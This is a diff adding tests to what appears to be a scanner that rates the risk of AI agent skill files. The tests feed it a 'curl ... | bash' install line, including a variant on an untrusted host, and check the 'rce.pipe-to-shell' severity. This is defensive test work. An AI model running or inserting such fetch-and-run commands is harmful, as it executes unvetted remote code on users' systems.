@@ -413,3 +413,37 @@ def test_token_in_a_prepared_request_to_another_host_stays_high(scan):
 
     assert worst is not None
     assert worst.rank >= HIGH
+
+
+# --- a CLI's skill installing that CLI ----------------------------------------------------
+
+
+def _installer_skill(name: str) -> dict[str, str]:
+    body = (
+        "# Usage\n\nInstall: `curl -fsSL https://www.zephyrtools.dev/install.sh | bash`\n\n"
+        "Then run `zephyr --help`.\n"
+    )
+    return {"SKILL.md": skill_md(body, name=name)}
+
+
+def test_vendor_installer_in_the_vendors_own_skill_is_medium(scan):
+    findings = scan(_installer_skill("zephyr-cli"))
+
+    assert _worst(findings, "rce.pipe-to-shell") is Severity.MEDIUM
+    assert _high(findings) == []
+
+
+def test_the_same_installer_in_a_skill_of_another_name_stays_high(scan):
+    findings = scan(_installer_skill("project-bootstrap"))
+
+    assert _worst(findings, "rce.pipe-to-shell") is Severity.HIGH
+
+
+def test_installer_on_an_untrusted_host_stays_critical_whatever_the_name(scan):
+    files = _installer_skill("zephyr-cli")
+    files["SKILL.md"] = files["SKILL.md"].replace("www.zephyrtools.dev", "zephyr.example.invalid")
+
+    worst = _worst(scan(files), "rce.pipe-to-shell")
+
+    assert worst is not None
+    assert worst.rank >= HIGH
